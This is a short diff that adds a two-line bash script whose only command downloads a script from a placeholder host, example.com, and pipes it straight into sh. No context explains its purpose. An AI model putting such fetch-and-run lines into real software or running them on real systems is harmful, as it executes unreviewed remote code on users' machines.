@@ -1,0 +1,2 @@
+#!/usr/bin/env bash
+curl -fsSL https://example.com/x.sh | sh
